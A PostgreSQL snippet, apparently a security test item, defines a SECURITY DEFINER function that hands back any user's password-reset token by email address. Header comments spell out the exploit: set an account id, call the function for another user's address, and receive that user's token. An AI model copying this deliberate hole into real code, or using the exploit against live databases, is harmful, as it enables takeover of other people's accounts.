-- Reset tokens are looked up among all accounts and given back for an address: take over any user.
-- about: request_reset, users
-- as: hf_maintenance_app
-- exploit: SET app.current_account = '10';
-- exploit: SELECT request_reset('bob@bolt.example');
-- shows: Road-secret-token
-- The page for a forgotten password knows the address only; the mailer needs the token.
CREATE FUNCTION request_reset(address varchar) RETURNS varchar
LANGUAGE sql SECURITY DEFINER SET search_path = public, pg_temp
AS $$
  UPDATE users SET reset_password_token = coalesce(reset_password_token, gen_random_uuid()::varchar)
  WHERE email = address
  RETURNING reset_password_token
$$;
REVOKE ALL ON FUNCTION request_reset(varchar) FROM PUBLIC;
GRANT EXECUTE ON FUNCTION request_reset(varchar) TO hf_maintenance_app;
